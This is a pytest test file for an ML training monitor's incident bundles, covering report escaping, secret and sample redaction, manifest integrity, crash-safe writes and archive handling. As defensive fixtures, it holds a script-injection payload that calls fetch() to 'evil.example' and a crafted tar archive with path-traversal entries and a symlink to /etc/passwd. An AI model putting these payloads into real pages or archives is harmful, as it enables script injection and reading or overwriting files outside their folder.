"""What a bundle holds opens anywhere, tells what happened, and tells nothing that it must not."""

from __future__ import annotations

import html.parser
import json
import math
import os
import random
import re
import signal
import subprocess
import sys
import tarfile
import time
from dataclasses import replace
from pathlib import Path

import pytest
import sentinel_batches as made
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from incident_world import World, event_of

from grpo_sentinel.errors import SentinelError
from grpo_sentinel.incidents.bundle import Bundle, open_bundle
from grpo_sentinel.incidents.digest import QUESTIONS, Digest, plots_for
from grpo_sentinel.incidents.export import export, export_redacted
from grpo_sentinel.incidents.model import About, Source, State
from grpo_sentinel.incidents.places import begin, put_in_place, recover
from grpo_sentinel.incidents.plots import chart
from grpo_sentinel.incidents.writing import write_bundle
from grpo_sentinel.records import Severity

EVIL = "<script>fetch('http://evil.example/x')</script> | `code` [link](http://evil.example) ![x](http://evil.example)"


class Page(html.parser.HTMLParser):
    """Collects tags and attributes of a page, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.words += data


def strict(path: Path) -> object:
    return json.loads(path.read_text(), parse_constant=lambda name: pytest.fail(f"{path.name} holds {name}"))


def written(world: World, **changes: object) -> Bundle:
    world.find(made.finding(**{"onset_step": 3, "finding_id": "nan_gradient:1:3", **changes}))
    world.work()
    return world.bundle()


def test_the_page_holds_no_script_loads_nothing_and_escapes_what_comes_from_outside(world: World) -> None:
    for _ in range(5):
        world.step({"reward.mean": 0.5})
    world.store_event("exception", {"type": "ValueError", "message": EVIL, "traceback": EVIL})
    bundle = written(world, message=EVIL, why=EVIL, remedies=(EVIL,), subject=EVIL, reference=EVIL)
    text = (bundle.path / "report.html").read_text()
    page = Page(text)
    assert page.tags & {"script", "link", "img", "iframe", "object", "a", "form"} == set()
    assert page.attributes & {"src", "href", "onload", "onerror", "onclick", "action", "background"} == set()
    assert "default-src 'none'" in text
    assert "url(" not in text
    assert "@import" not in text
    assert EVIL in page.words  # told, as text
    markdown = (bundle.path / "report.md").read_text()
    assert "<script" not in markdown
    assert not re.search(r"(?<!\\)\]\(http", markdown)


def test_the_report_tells_root_chain_layers_ranks_and_what_is_missing(world: World) -> None:
    for step in range(1, 9):
        bad = {"reward.nonfinite": 1.0, "policy.loss": math.nan} if step >= 5 else {"reward.nonfinite": 0.0}
        world.step({"gradient.norm_preclip": 1.0, "optimizer.learning_rate": 1e-4}, rank_1=bad)
    root = made.finding("reward_nan", finding_id="r:1:5", layer="reward", onset_step=5, message="a reward is NaN")
    then = made.finding(
        "loss_nan", finding_id="l:1:5", layer="policy", onset_step=5, root_id="r:1:5", message="the loss is NaN"
    )
    world.find(root, then)
    world.work()
    text = (world.bundle().path / "report.md").read_text()
    assert "The first layer that was wrong is **reward**, at step 5, on rank 1." in text
    assert text.index("a reward is NaN") < text.index("the loss is NaN")
    rows = {line.split(" | ")[0].strip("| "): line for line in text.splitlines() if line.startswith("| ")}
    assert "wrong from step 5, rank 1 (reward.nonfinite)" in rows["reward"]
    assert "wrong from step 5, rank 1 (policy.loss)" in rows["policy"]
    assert "good (1)" in rows["gradient"]
    assert "not watched" in rows["data"]
    assert "not here: stacks: none were taken" in text
    page = (world.bundle().path / "report.html").read_text()
    assert page.count("<svg") >= 3
    assert "rank 1, step 5: nan" in page


@pytest.mark.parametrize("mode", ["off", "hashed", "full"])
def test_texts_of_samples_are_kept_as_configured(tmp_path: Path, mode: str) -> None:
    world = World(tmp_path / "s", tmp_path / "r", samples=mode)
    secret = "the patient's name is Ada"
    body = {"prompt": secret, "completion_ids": [17, 4, 2], "rank": 1, "function": "accuracy", "finding_id": "f"}
    world.store_event("sample", body, step=3)
    bundle = written(world)
    everything = b"".join(
        path.read_bytes() for path in bundle.path.rglob("*") if path.is_file() and path.suffix != ".gz"
    )
    assert (secret.encode() in everything) is (mode == "full")
    if mode == "off":
        assert not [event for event in bundle.events() if event.kind == "sample"]
    if mode == "hashed":
        import hashlib

        kept = event_of(bundle, "sample").body
        assert kept["prompt"] == {"sha256": hashlib.sha256(secret.encode()).hexdigest(), "length": len(secret)}
        assert kept["completion_ids"]["length"] == 3
        assert (kept["function"], kept["rank"]) == ("accuracy", 1)
    world.close()


def test_secrets_in_settings_are_removed_wherever_they_are(world: World) -> None:
    world.context = {
        "hub_token": "hf_verysecret", "learning_rate": 1e-4, "max_tokens": 128, "env": {"WANDB_API_KEY": "verysecret"},
        "url": "https://ada:verysecret@example.org/x",
    }  # fmt: skip
    world.store_event("config", world.context, step=0)
    world.new_recorder(http={"read_token": "verysecret", "port": 9477})
    bundle = written(world)
    text = "".join(
        path.read_text() for path in bundle.path.iterdir() if path.suffix in (".json", ".jsonl", ".md", ".html")
    )
    assert "verysecret" not in text
    kept = bundle.source()
    assert kept.trainer["learning_rate"] == 1e-4
    assert kept.trainer["max_tokens"] == 128
    assert kept.sentinel["http"] == {"read_token": "(removed)", "port": 9477}


def test_stacks_logs_and_tensors_that_are_there_go_in(tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_text("x" * 400_000 + "\nRuntimeError: the end\n")
    world = World(tmp_path / "s", tmp_path / "r", log_files=(str(tmp_path / "*.log"),))
    stacks = world.state / "stacks" / made.RUN / "stacks-1.txt"
    stacks.parent.mkdir(parents=True)
    stacks.write_text("Thread 1")
    os.utime(stacks, ns=(world.clock.wall_ns(), world.clock.wall_ns()))
    tensors = tmp_path / "offending.safetensors"
    tensors.write_bytes(b"\x02\0\0\0\0\0\0\0{}")
    world.store_event("nonfinite", {"names": ["w"], "path": str(tensors)}, step=3, rank=1)
    bundle = written(world)
    assert (bundle.path / "stacks" / "stacks-1.txt").read_text() == "Thread 1"
    assert (bundle.path / "logs" / "0-train.log").read_text().endswith("RuntimeError: the end\n")
    assert (bundle.path / "logs" / "0-train.log").stat().st_size < 300_000
    assert (bundle.path / "tensors" / "rank-00001-offending.safetensors").read_bytes() == tensors.read_bytes()
    world.close()


def test_every_json_in_it_is_strict_and_versioned(world: World) -> None:
    for _ in range(3):
        world.step({"policy.loss": math.nan})
    world.store_samples(made.sample(), made.sample("node-a", {"device.host_load1": math.inf}, source="host"))
    bundle = written(world, value=math.nan, limit=math.inf)
    manifest = strict(bundle.path / "manifest.json")
    assert (manifest["schema"], manifest["version"]) == ("grpo-sentinel/incident", 1)
    for name in ("findings.json", "run.json", "config.json"):
        strict(bundle.path / name)
    assert {sample.entity for sample in bundle.samples()} == {"GPU-1", "node-a"}
    assert math.isnan(bundle.findings()[0].value)
    on_disk = {str(path.relative_to(bundle.path)) for path in bundle.path.rglob("*") if path.is_file()}
    assert on_disk - {"manifest.json"} == {entry["name"] for entry in manifest["files"]}


def test_a_changed_file_is_seen_and_a_newer_bundle_is_refused_in_a_sentence(world: World) -> None:
    bundle = written(world)
    (bundle.path / "events.jsonl").write_text("{}\n")
    assert bundle.damage() == ["events.jsonl was changed after it was written"]
    manifest = json.loads((bundle.path / "manifest.json").read_text())
    (bundle.path / "manifest.json").write_text(json.dumps({**manifest, "version": 99}))
    with pytest.raises(SentinelError, match="written by a newer grpo-sentinel"):
        Bundle(bundle.path)


def test_an_export_opens_elsewhere_with_the_same_contents(world: World, tmp_path: Path) -> None:
    world.step()
    bundle = written(world)
    export(bundle, tmp_path / "x.tar.gz")
    with open_bundle(tmp_path / "x.tar.gz") as again:
        assert again.damage() == []
        assert list(again.records()) == list(bundle.records())
        assert again.findings() == bundle.findings()


def test_a_redacted_export_names_no_host_no_sample_and_no_path(tmp_path: Path) -> None:
    from grpo_sentinel.diagnosis.redact import redact

    world = World(tmp_path / "s", tmp_path / "r", samples="full")
    world.step()
    world.context = {"output_dir": "/home/mallory/secret-project/out", "beta": 0.04}
    world.store_event("sample", {"prompt": "private words"}, step=3)
    world.store_event(
        "exception", {"type": "OSError", "message": "node-a: /home/mallory/secret-project/out is full"}, step=3
    )
    bundle = written(world, message="node-a failed in /home/mallory/secret-project/out")
    export_redacted(bundle, tmp_path / "x.tar.gz", redact)
    with open_bundle(tmp_path / "x.tar.gz") as copy:
        text = b"".join(path.read_bytes() for path in copy.path.rglob("*") if path.is_file() and path.suffix != ".gz")
        for word in (b"private words", b"secret-project", b"node-a", b"mallory"):
            assert word not in text
        assert copy.manifest["redacted"] is True
        assert copy.damage() == []
        assert copy.source().trainer["beta"] == 0.04
        assert list(copy.records()) == list(bundle.records())
    world.close()


def test_a_redacted_export_keeps_neither_a_sample_that_an_exception_quotes_nor_hosts_and_paths_of_own_rules(
    tmp_path: Path,
) -> None:
    from grpo_sentinel.diagnosis.redact import redact

    world = World(tmp_path / "s", tmp_path / "r")
    world.step()
    told = "no number in 'it\\'s private words' and \"more private words\""
    world.store_event("exception", {"type": "ValueError", "message": told, "traceback": f"ValueError: {told}"}, step=3)
    text = "ask mallory@example.org or look at /home/mallory/secret-project/runbook.md on node-a"
    bundle = written(
        world, message=f"ValueError: {told}, unsupported operand 'int' of rank 1's batch and rank 2's",
        why=text, remedies=(text,), reference=text, subject="/home/mallory/secret-project/reward.py",
    )  # fmt: skip
    export_redacted(bundle, tmp_path / "x.tar.gz", redact)
    with open_bundle(tmp_path / "x.tar.gz") as copy:
        kept = b"".join(path.read_bytes() for path in copy.path.rglob("*") if path.is_file() and path.suffix != ".gz")
        assert {word for word in (b"private", b"secret-project", b"node-a", b"mallory") if word in kept} == set()
        assert "'int' of rank 1's batch and rank 2's" in copy.findings()[0].message
        assert "runbook.md on node-1" in copy.findings()[0].why
    world.close()


@pytest.mark.parametrize("kind", ["parent", "absolute", "link"])
def test_an_archive_that_leads_out_of_its_folder_is_refused(tmp_path: Path, kind: str) -> None:
    import io

    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz") as archive:
        member = tarfile.TarInfo({"parent": "../escaped", "absolute": "/tmp/escaped", "link": "x/link"}[kind])
        if kind == "link":
            member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        member.size = 0 if kind == "link" else 4
        archive.addfile(member, io.BytesIO(b"evil"))
    with pytest.raises(SentinelError, match="not unpacked"), open_bundle(tmp_path / "evil.tar.gz"):
        pass
    assert not (tmp_path / "escaped").exists()


WRITER = """
import sys, itertools
sys.path[:0] = sys.argv[2:]
import sentinel_batches as made
from pathlib import Path
from test_bundle_contents import source
from grpo_sentinel.incidents.writing import write_bundle
for number in itertools.count(1):
    write_bundle(source(number), Path(sys.argv[1]) / "run-1-x", "hashed")
    print(number, flush=True)
"""


def source(number: int) -> Source:
    one = made.finding(message=f"version {number}")
    about = About(
        incident_id="x", run_id="run-1", node="node-a", state=State.OPEN, opened_wall_ns=1, updated_wall_ns=number,
        title=one.message, root_id=one.finding_id, onset_step=12, last_step=20,
    )  # fmt: skip
    return Source(
        about=about, findings=(one,), transitions=(one,), events=lambda: iter(()), samples=lambda: iter(()),
        records=lambda: (made.record(step, rank) for step in range(30) for rank in range(2)),
    )  # fmt: skip


def test_a_bundle_always_opens_though_its_writer_is_killed_at_any_moment(tmp_path: Path) -> None:
    path = [str(Path(__file__).parent), str(Path(made.__file__).parent)]
    chance = random.Random(5)
    for _ in range(4):
        child = subprocess.Popen(
            [sys.executable, "-c", WRITER, str(tmp_path), *path], stdout=subprocess.PIPE, text=True
        )
        try:
            assert child.stdout is not None
            wanted = chance.randrange(1, 6)
            for line in child.stdout:
                if int(line) >= wanted:
                    break
            os.sched_yield()
            time.sleep(chance.random() * 0.05)  # somewhere inside a later writing
        finally:
            child.send_signal(signal.SIGKILL)
            child.wait(30)
        bundle = Bundle(tmp_path / "run-1-x")
        assert bundle.damage() == []
        assert len(list(bundle.records())) == 60


def test_what_an_interrupted_swap_left_is_put_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "incidents"
    write_bundle(source(1), root / "run-1-x", "hashed")
    (root / "run-1-x").rename(root / ".run-1-x.old")
    (root / ".run-1-y.partial").mkdir()
    recover(root)
    assert not (root / "run-1-x").exists()  # another daemon may be at it right now
    monkeypatch.setattr("grpo_sentinel.incidents.places._age", lambda path: 1e6)
    recover(root)
    assert Bundle(root / "run-1-x").damage() == []
    assert [path.name for path in root.iterdir()] == ["run-1-x"]


def test_the_swap_works_where_the_kernel_cannot_exchange(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("grpo_sentinel.incidents.places._exchange", lambda one, other: False)
    for text in ("old", "new"):
        partial = begin(tmp_path / "i" / "b")
        (partial / "f").write_text(text)
        put_in_place(partial, tmp_path / "i" / "b")
    assert [path.name for path in (tmp_path / "i").iterdir()] == ["b"]
    assert (tmp_path / "i" / "b" / "f").read_text() == "new"


def test_a_bundle_for_which_the_time_is_up_says_what_it_lacks(tmp_path: Path) -> None:
    manifest = write_bundle(source(1), tmp_path / "b", "hashed", seconds=-1.0)
    assert "the time for one bundle was up" in manifest["missing"]["steps"]
    assert Bundle(tmp_path / "b").damage() == []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=st.text(max_size=200),
    value=st.floats() | st.none(),
    points=st.lists(st.tuples(st.integers(0, 10**9), st.floats()), max_size=50),
    layer=st.sampled_from(["data", "reward", "memory", "device", "nonsense"]),
)
def test_no_text_and_no_number_breaks_a_report(
    tmp_path: Path, text: str, value: float | None, points, layer: str
) -> None:
    one = made.finding(message=text, why=text, subject=text, remedies=(text,), value=value, layer=layer, signal="x.y")
    base = source(1)
    from dataclasses import replace

    target = tmp_path / "b"
    records = [made.record(step, 0, {"x.y": number, "reward.mean": number}) for step, number in points]
    write_bundle(
        replace(base, findings=(one,), about=replace(base.about, title=text), records=lambda: iter(records)),
        target,
        "hashed",
    )
    strict(target / "manifest.json")
    page = Page((target / "report.html").read_text())
    assert "script" not in page.tags
    assert len(list(Bundle(target).records())) == len(points)


def test_a_flat_line_one_point_and_nothing_but_nan_are_drawn() -> None:
    for line in ([(1, 2.0), (2, 2.0)], [(5, 1.0)], [(1, math.nan)], [(1, -math.inf), (2, 1e308), (3, -1e308)], []):
        drawn = chart("x", "nats", {0: line}, {1: "onset: step 1"})
        assert drawn.startswith("<svg")
        assert "nan" not in re.sub(r"<title>.*?</title>", "", drawn)


def test_plots_begin_with_the_signals_that_findings_name() -> None:
    named = made.finding(signal="device.gpu_temperature_celsius", severity=Severity.WARNING)
    assert plots_for([named])[0] == "device.gpu_temperature_celsius"
    digest = Digest(("policy.loss",))
    digest.add(made.record(1, 0))
    assert digest.series == {"policy.loss": {0: [(1, 1.0)]}}


def test_a_reward_model_of_one_dtype_is_not_called_wrong_and_a_mismatch_is() -> None:
    digest = Digest(())
    healthy = {"reward.model_dtypes[reference]": 1.0, "policy.loss_dtype_mismatch": 0.0}
    digest.add(replace(made.record(1, 0), values=healthy))
    digest.add(replace(made.record(2, 0), values={**healthy, "policy.loss_dtype_mismatch": 1.0}))
    assert digest.answer("reward", "numbers").signals == 1
    assert all(digest.answer("reward", question).step is None for question in QUESTIONS)
    assert digest.answer("policy", "dtypes").step == 2
